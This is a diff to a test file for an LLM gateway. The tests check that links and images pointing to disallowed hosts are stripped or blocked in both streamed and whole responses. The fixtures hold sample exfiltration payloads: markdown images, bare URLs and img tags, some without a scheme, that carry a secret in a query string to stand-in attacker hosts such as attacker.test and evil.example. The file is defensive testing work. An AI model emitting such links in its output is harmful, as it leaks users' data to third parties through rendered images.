@@ -24,6 +24,9 @@ const route = (output: string): string => `
 const SECRET = ['TOP', 'SECRET', '42'].join('-');
 const EXFIL = `Done! ![chart](https://attacker.test/log?q=${SECRET}) See [the docs](https://docs.example.com/a) or <img src="https&#58;//attacker.test/p?${SECRET}">.`;
 const STRIPPED = 'Done!  See [the docs](https://docs.example.com/a) or .';
+// The same without a scheme: protocol-relative, www. targets, a bare www. URL, an upper-case tag with single quotes.
+const NO_SCHEME = `Chart: ![x](//evil.example/?q=${SECRET}) and [more](www.evil.example/?q=${SECRET}), see www.evil.example/?q=${SECRET} or <IMG alt=c SRC='//evil.example/p?${SECRET}'>. Docs: [d](/docs) ![ok](//cdn.example.com/a.png) www.example.com`;
+const NO_SCHEME_STRIPPED = 'Chart:  and more, see www.[link removed] or . Docs: [d](/docs) ![ok](//cdn.example.com/a.png) www.example.com';
 
 // Two gateways (each with its own simulator): one strips, one blocks.
 let s: Stack;
@@ -89,8 +92,28 @@ describe('output.links: strip', () => {
     s.sim.options.responseChunks = [];
   });
 
+  test('links without a scheme (//host, www.), streamed one character per event and whole, never reach the client', async () => {
+    const counts = async (): Promise<number[]> => Promise.all(['image', 'link', 'url'].map((t) => linkMetric(s, t, 'strip', '/v1/chat/completions')));
+    const [images, links, urls] = await counts();
+    s.sim.options.responseText = NO_SCHEME;
+    s.sim.options.responseChunks = [...NO_SCHEME];
+    const st = await rawStream(s);
+    assert.equal(st.text, NO_SCHEME_STRIPPED);
+    assert.ok(!st.raw.includes('evil') && !st.raw.includes(SECRET), 'no piece of a disallowed URL reached the client');
+    assert.ok(st.done);
+    s.sim.options.responseChunks = [];
+    const json = await post(s.url, '/v1/chat/completions', body(), bearer(s.key));
+    assert.equal((json.json as { choices: Array<{ message: { content: string } }> }).choices[0]?.message.content, NO_SCHEME_STRIPPED);
+    assert.ok(!json.body.includes('evil') && !json.body.includes(SECRET));
+    // Per response: two images (markdown, tag), one link, one bare URL. (The image count may also
+    // take the previous test's stream, counted when it settles: at least, not exactly.)
+    await waitFor(async () => { const [i, l, u] = await counts(); return (i as number) >= (images as number) + 4 && l === (links as number) + 2 && u === (urls as number) + 2; }, 'counts by type');
+    s.sim.options.responseText = EXFIL;
+  });
+
   test('streamed equals non-streamed for random splits (links, bare URLs, e-mail redaction together)', async () => {
-    const piece = fc.constantFrom('![x](https://attacker.test/?q=1)', '[t](https://example.com/a)', 'https://attacker.test/p ', '<a href=https://attacker.test>', ['mail', 'jane@example.org'].join(' '), ' ok ', '[', '!', 'h', '\n');
+    const piece = fc.constantFrom('![x](https://attacker.test/?q=1)', '[t](https://example.com/a)', 'https://attacker.test/p ', '<a href=https://attacker.test>', ['mail', 'jane@example.org'].join(' '), ' ok ', '[', '!', 'h', '\n',
+      '![x](//attacker.test/?q=1)', '[w](www.attacker.test/a)', 'www.attacker.test/p ', '<IMG SRC=//attacker.test>', 'www', '.', '/');
     const policy = new LinkPolicy({ allow: ['example.com'], action: 'strip', images: true, links: true });
     await fc.assert(fc.asyncProperty(fc.array(piece, { minLength: 1, maxLength: 10 }).map((a) => a.join('')), fc.integer({ min: 1, max: 7 }), async (text, n) => {
       const chunks: string[] = [];
@@ -127,13 +150,19 @@ describe('output.links: block', () => {
     assert.equal((r.json as { choices: Array<{ message: { content: string } }> }).choices[0]?.message.content, 'See [the docs](https://docs.example.com/a) and ![x](/local.png).');
   });
 
-  test('a stream is ended by the error event before any piece of the disallowed URL is sent', async () => {
-    b.sim.options.responseChunks = ['Here is ', 'the chart: ![c](htt', 'ps://attack', `er.test/?q=${SECRET}`, ') bye'];
-    const st = await rawStream(b);
-    assert.equal(st.lastError, 'MG_OUTPUT_BLOCKED');
-    assert.equal(st.done, false);
-    assert.ok(!st.raw.includes('attack') && !st.raw.includes(SECRET));
-    assert.equal(st.text, 'Here is the chart: ');
-    b.sim.options.responseChunks = [];
-  });
+  // With a scheme, and protocol-relative (no scheme at all): the same outcome.
+  for (const [name, chunks, host] of [
+    ['a stream is ended by the error event before any piece of the disallowed URL is sent', ['Here is ', 'the chart: ![c](htt', 'ps://attack', `er.test/?q=${SECRET}`, ') bye'], 'attack'],
+    ['a protocol-relative image split across events ends the stream before any piece of its URL is sent', ['Here is ', 'the chart: ![x](/', '/evil.exa', `mple/?q=${SECRET}`, ') bye'], 'evil'],
+  ] as const) {
+    test(name, async () => {
+      b.sim.options.responseChunks = [...chunks];
+      const st = await rawStream(b);
+      assert.equal(st.lastError, 'MG_OUTPUT_BLOCKED');
+      assert.equal(st.done, false);
+      assert.ok(!st.raw.includes(host) && !st.raw.includes(SECRET));
+      assert.equal(st.text, 'Here is the chart: ');
+      b.sim.options.responseChunks = [];
+    });
+  }
 });
